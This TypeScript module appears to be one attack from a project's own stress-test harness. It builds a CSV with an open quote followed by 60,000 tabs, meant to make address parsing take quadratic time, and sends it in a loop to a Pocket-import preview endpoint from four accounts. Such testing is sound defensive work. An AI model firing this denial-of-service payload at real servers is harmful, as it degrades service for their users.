import { formWith } from '../world/import-files.ts'
import { type Attack, ask } from './attack.ts'
import { keepOn } from './flood.ts'

/** Tabs behind an open quote. A search for an address in them can take the square of their number. */
const FILE = `title,url,time_added,tags,status\n"a\n${'\t'.repeat(60_000)}\nx`
const ACCOUNTS = [1, 2, 3, 4] as const

/** Previews of such a file from four accounts, one after another each. */
export const previews: Attack = (attacker, signal) =>
  keepOn(ACCOUNTS.length, signal, async (connection, n) => {
    // A library stores each file once, so each one differs.
    const { type, bytes } = await formWith('export.csv', `${FILE}${attacker.tag}-${n}`)
    const account = ACCOUNTS[connection] ?? 1
    return ask(attacker, 'POST', '/api/import/pocket/preview', { account, body: Buffer.from(bytes), type })
  })
